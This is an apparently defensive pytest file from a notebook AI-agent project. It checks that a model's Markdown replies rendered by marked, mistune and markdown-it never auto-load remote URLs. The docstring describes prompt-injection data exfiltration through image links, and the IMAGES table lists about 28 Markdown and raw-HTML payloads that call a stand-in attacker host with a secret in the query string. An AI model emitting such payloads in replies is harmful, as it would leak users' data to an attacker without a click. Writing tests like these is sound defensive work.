"""Remote content in the model's text is never fetched: a reply holding
``![](https://attacker.example/?d=…)`` (a prompt injection's way out) would make the browser send
that URL the moment the reply is drawn, with no click. Images, raw HTML tags with a ``src`` and
CSS ``url()`` are shown as text or as a link the person may open; the Markdown is checked as
JupyterLab draws it (marked, its parser), as nbconvert's HTML export draws it (mistune) and as the
docs pages draw it (markdown-it)."""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from nbagent import Session
from nbagent.notebook.html import markdown_output
from tests.security.untrusted_fixtures import REPO, replay

MARKED = REPO / "labextension" / "node_modules" / "marked" / "lib" / "marked.esm.js"
ATTACKER = "https://attacker.example/?d=SECRET"

IMAGES = {
    "inline": f"![]({ATTACKER})",
    "inline with alt and title": f'see ![chart]({ATTACKER} "t") here',
    "angle brackets": f"![x](<{ATTACKER}>)",
    "protocol-relative": "![x](//attacker.example/?d=SECRET)",
    "reference": f"![x][r]\n\n[r]: {ATTACKER}",
    "collapsed reference": f"![r][]\n\n[r]: {ATTACKER}",
    "shortcut reference": f"![r]\n\n[r]: {ATTACKER}",
    "inside a link": f"[![x]({ATTACKER})](https://example.com)",
    "in a list": f"- one\n- ![x]({ATTACKER})",
    "in a quote": f"> ![x]({ATTACKER})",
    "in a table": f"| a |\n|---|\n| ![x]({ATTACKER}) |",
    "escaped backticks around it": f"\\`![x]({ATTACKER})\\`",
    "code span spread over lines": f"`a\nb` ![x]({ATTACKER}) `c`",
    "fence closed by its list item": f"- a\n\n  ```\nx\n\n![x]({ATTACKER})\n```",
    "heading before a spread span": f"# `\nx `\n` ![x]({ATTACKER}) `",
    "raw img": f"<img src={ATTACKER}>",
    "raw img behind escaped backticks": f'\\`<img src="{ATTACKER}">\\`',
    "raw video": f'<video src="{ATTACKER}" autoplay></video>',
    "raw video poster": f'<video poster="{ATTACKER}"></video>',
    "raw audio source": f'<audio autoplay><source src="{ATTACKER}"></audio>',
    "raw iframe": f'<iframe src="{ATTACKER}"></iframe>',
    "raw picture srcset": f'<picture><source srcset="{ATTACKER}"><img alt=x></picture>',
    "raw css url": f'<div style="background:url({ATTACKER})">x</div>',
    "raw style import": f"<style>@import url({ATTACKER});</style>",
    "raw link stylesheet": f'<link rel="stylesheet" href="{ATTACKER}">',
    "raw svg image": f'<svg><image href="{ATTACKER}"/></svg>',
    "raw object": f'<object data="{ATTACKER}"></object>',
    "raw input image": f'<input type="image" src="{ATTACKER}">',
}

LOADS = {"src", "srcset", "poster", "background", "data", "lowsrc", "dynsrc", "xlink:href"}


class _Fetches(HTMLParser):
    """Every URL the rendered HTML makes a browser load by itself (a link's ``href`` waits for a click)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            if name in LOADS or (name == "href" and tag != "a") or (name == "style" and "url(" in value):
                self.urls.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self.in_style and ("url(" in data or "@import" in data):
            self.urls.append(f"<style>{data}")


def fetched(html: str) -> list[str]:
    parser = _Fetches()
    parser.feed(html)
    return parser.urls


def _marked(sources: list[str]) -> list[str]:
    """JupyterLab's own Markdown parser (marked, GitHub-flavoured, as @jupyterlab/markedparser-extension sets it)."""
    if shutil.which("node") is None or not MARKED.exists():
        pytest.skip("labextension/node_modules missing: run `npm ci --prefix labextension` to render with marked")
    script = (
        f"import {{ marked }} from {json.dumps(MARKED.as_uri())};"
        "let s = ''; process.stdin.on('data', d => s += d).on('end', () =>"
        " process.stdout.write(JSON.stringify(JSON.parse(s).map(m => marked.parse(m, { gfm: true })))));"
    )
    done = subprocess.run(["node", "--input-type=module", "-e", script], input=json.dumps(sources),
                          capture_output=True, text=True, timeout=60, check=True)
    return json.loads(done.stdout)


def _mistune(sources: list[str]) -> list[str]:
    mistune = pytest.importorskip("mistune")
    render = mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])
    return [str(render(s)) for s in sources]


def _markdown_it(sources: list[str]) -> list[str]:
    """markdown-it with raw HTML on: a renderer that keeps whatever HTML it is given."""
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return [md.render(s) for s in sources]


def shown(text: str) -> str:
    return markdown_output(text)["data"]["text/markdown"]


@pytest.mark.parametrize("render", [_marked, _mistune, _markdown_it], ids=["jupyterlab-marked", "nbconvert-mistune", "markdown-it"])
def test_no_renderer_fetches_anything_the_model_wrote(render) -> None:
    names = list(IMAGES)
    rendered = render([shown(IMAGES[name]) for name in names])
    loads = {name: fetched(html) for name, html in zip(names, rendered, strict=True) if fetched(html)}
    assert not loads, loads


def test_an_image_becomes_a_link_the_person_can_open() -> None:
    forms = ["inline", "inline with alt and title", "protocol-relative", "reference", "inside a link", "in a list",
             "in a quote", "in a table"]
    rendered = dict(zip(forms, _marked([shown(IMAGES[f]) for f in forms]), strict=True))
    for form, html in rendered.items():
        assert "attacker.example/?d=SECRET" in html and "<a href=" in html, (form, html)
    assert '🖼 <a href="https://attacker.example/?d=SECRET">image</a>' in rendered["inline"]  # no empty, unclickable link
    assert "🖼 <a href=" in rendered["inline with alt and title"] and ">chart</a>" in rendered["inline with alt and title"]


def test_code_keeps_its_images_as_written_and_a_tool_image_stays_inline() -> None:
    """Markdown about Markdown (a README's badge in a fence or a code span) is shown exactly as the
    model wrote it; a tool's image is data already in the page and is drawn."""
    from nbagent.kit.turn import Card
    from nbagent.notebook.toolcard import ToolCard
    from nbagent.protocol import ImageBlock, ToolCallEnd

    text = f"```markdown\n![badge]({ATTACKER})\n```\n\nand `![x](y.png)` inline"
    assert shown(text) == text
    (html,) = _marked([shown(text)])
    assert not fetched(html)
    card = ToolCard(Card(call_id="c", tool="plot", arguments={}, begun=True))
    card.on_end(ToolCallEnd(call_id="c", tool="plot", status="completed", output="",
                            content=[ImageBlock(data="iVBORw0KGgo=", mime_type="image/png")], duration_ms=1))
    assert fetched(card.result.value) == ['<img src=data:image/png;base64,iVBORw0KGgo=>']


async def test_the_models_reply_in_a_cell_fetches_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole path: the model's reply streams through a session into the turn's widgets."""
    from nbagent.notebook.render import WidgetTurn

    monkeypatch.setenv("NBAGENT_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    reply = f"Done. ![]({ATTACKER})\n\n<img src={ATTACKER}> and `code`"
    view = WidgetTurn(lambda op: None, model_label="replay", scripted=True, thread="t", policy="never")
    async with Session(model=replay(tmp_path / "script.json", {"text": reply})) as session:
        session.subscribe(view.handle)
        await asyncio.wait_for(session.run("go"), 30)
    outputs = [o["data"]["text/markdown"] for s in view.streams.values() for o in s.widget.outputs]
    assert len(outputs) == 1
    (html,) = _marked(outputs)
    assert not fetched(html), html
    assert '<a href="https://attacker.example/?d=SECRET">' in html
